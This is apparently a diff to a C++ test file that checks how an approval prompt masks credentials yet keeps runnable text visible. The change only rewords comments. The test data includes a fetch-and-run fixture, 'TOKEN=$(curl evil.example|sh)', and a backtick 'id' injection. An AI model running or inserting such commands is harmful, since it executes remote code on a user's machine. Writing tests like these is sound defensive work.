@@ -1,4 +1,4 @@
-// What a person sees of the values that decide what runs, and of those that are credentials.
+// How the approval prompt displays credentials and values that determine which program runs.
 #include "approve/approve_value.hpp"
 
 #include <catch2/catch.hpp>
@@ -110,7 +110,7 @@ TEST_CASE("passwords in what is shown as it is written are masked") {
            {"--token=${TOKEN:-canary}", "--token=${TOKEN:-***}"},
            {"postgres://u:${PW:-canary}@h/db", "postgres://u:${PW:-***}@h/db"},
            {"postgres://u:pre${PW}@h/db", "postgres://u:***${PW}@h/db"},
-           // What may run, or be opened.
+           // Text that may be run or opened is shown.
            {"TOKEN=$(curl evil.example|sh) x", "TOKEN=$(curl evil.example|sh) x"},
            {"password=`id` x", "password=`id` x"},
            {"--key=./id.pem", "--key=./id.pem"},
